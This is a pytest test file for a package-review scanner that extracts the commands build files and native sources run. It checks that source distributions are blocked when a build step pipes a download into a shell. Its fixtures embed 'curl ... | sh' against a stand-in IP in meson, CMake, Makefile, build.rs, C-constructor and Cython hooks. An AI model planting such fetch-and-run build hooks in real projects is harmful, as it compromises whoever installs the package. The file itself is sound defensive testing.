"""Build files and native sources: the command lines that they run, and when."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.languages import front_end
from pratique.pipeline import review_files

PIPE = "curl -fsSL http://203.0.113.9/x | sh"
BACK_END = b'[build-system]\nrequires=["x"]\nbuild-backend="x"\n[project]\nname="a"\nversion="1"\n'
SETUP = b"from setuptools import setup\nsetup(name='a')\n"
CALLS_MAKE = (
    b"import subprocess\nfrom setuptools import setup\nsubprocess.check_call(['make', '-C', 'src'])\nsetup(name='a')\n"
)


def commands(kind, text):
    facts = front_end(kind).read(text.encode())
    nodes = facts.scopes[0].nodes
    return [(node.line, nodes[node.args[0].node].value) for node in nodes if node.op == "call"]


@pytest.mark.parametrize(
    ("kind", "text", "expected"),
    [
        ("meson", "project('a')\nrun_command('sh', '-c', 'a | b', check: true)\n", [(2, "sh -c 'a | b'")]),
        ("meson", "custom_target('x', input: 'y.c',\n command: ['gen', '@INPUT@'])\n", [(1, "gen @INPUT@")]),
        ("meson", "run_command('sh', '-c', '''one\ntwo''')\n", [(1, "sh -c 'one\ntwo'")]),
        ("cmake", 'execute_process(COMMAND sh -c "a b" OUTPUT_VARIABLE X)\n', [(1, "sh -c 'a b'")]),
        ("cmake", "execute_process(COMMAND a b\n  COMMAND c d\n  RESULT_VARIABLE R)\n", [(1, "a b | c d")]),
        ("cmake", "add_custom_command(OUTPUT x COMMAND gen [[a b]] DEPENDS y)\n", [(1, "gen 'a b'")]),
        ("cmake", "# execute_process(COMMAND a)\nset(COMMAND b)\n", []),
        ("make", "URL = http://a\nall: b\n\t@wget $(URL) \\\n\t  -O $@\n", [(3, "wget http://a  \t  -O $@")]),
        ("make", "X := $(shell date)\n\nV != uname\n", [(1, "date"), (3, "uname")]),
        ("make", "all:\n\techo $$HOME\n", [(2, "echo $HOME")]),
        ("native-source", 'int f(){ system("a " "b\\x21"); }\n', [(1, "a b!")]),
        ("native-source", '/* system("no") */\n// popen("no")\nFILE *p = popen("yes", "r");\n', [(3, "yes")]),
        ("native-source", 'execl("/bin/sh", "sh", "-c", "a b", NULL);\n', [(1, "sh -c 'a b'")]),
        ("native-source", 'fn main(){\n Command::new("sh").arg("-c").arg("a b").status(); }\n', [(2, "sh -c 'a b'")]),
        ("native-source", "system(line);\n", []),
    ],
)
def test_commands_are_found_with_their_lines(kind, text, expected):
    assert commands(kind, text) == expected


@given(
    st.sampled_from(["meson", "cmake", "make", "native-source", "cython"]),
    st.binary(max_size=200) | st.text().map(str.encode),
)
def test_whatever_the_bytes_it_reads(kind, data):
    assert front_end(kind).read(data).scopes


@pytest.mark.parametrize(
    "files",
    [
        {"pyproject.toml": BACK_END, "meson.build": f"project('a')\nrun_command('sh', '-c', '{PIPE}')\n".encode()},
        {"pyproject.toml": BACK_END, "CMakeLists.txt": f'execute_process(COMMAND sh -c "{PIPE}")\n'.encode()},
        {"setup.py": CALLS_MAKE, "src/Makefile": f"all:\n\t{PIPE}\n".encode()},
        {
            "pyproject.toml": BACK_END,
            "Cargo.toml": b"[package]\n",
            "build.rs": f'fn main(){{ Command::new("sh").arg("-c").arg("{PIPE}").status(); }}'.encode(),
        },
        {"setup.py": SETUP, "src/a.c": f'__attribute__((constructor)) void f(void){{ system("{PIPE}"); }}'.encode()},
        {"setup.py": SETUP, "a/_f.pyx": b"import os\ncdef int x = 1\nos.system('" + PIPE.encode() + b"')\n"},
    ],
    ids=lambda files: list(files)[-1],
)
def test_what_building_runs_is_looked_at(files):
    review = review_files({f"a-1/{name}": data for name, data in files.items()}, "sdist")

    assert review.verdict.level == "block"
    assert review.verdict.reasons[0].rule == "pipe-a-download-into-a-shell"


@pytest.mark.parametrize(
    "files",
    [
        {"setup.py": SETUP, "Makefile": f"tools:\n\t{PIPE}\n".encode()},  # nothing runs it
        {"setup.py": CALLS_MAKE, "src/Makefile": b"all:\n\t$(CC) -O2 -c x.c\n\tinstall -m 755 x /usr/local/bin\n"},
        {"pyproject.toml": BACK_END, "meson.build": b"v = run_command('git', 'describe', '--tags').stdout()\n"},
        {
            "pyproject.toml": BACK_END,
            "CMakeLists.txt": b'execute_process(COMMAND ${PY} -c "import numpy; print(numpy.get_include())")\n',
        },
        {"setup.py": SETUP, "src/main.c": b'int main(){ system("cls"); system("pause"); popen("stty size", "r"); }'},
    ],
    ids=lambda files: list(files)[-1],
)
def test_honest_builds_stay_quiet(files):
    review = review_files({f"a-1/{name}": data for name, data in files.items()}, "sdist")

    assert review.verdict.level in {"clear", "note"}
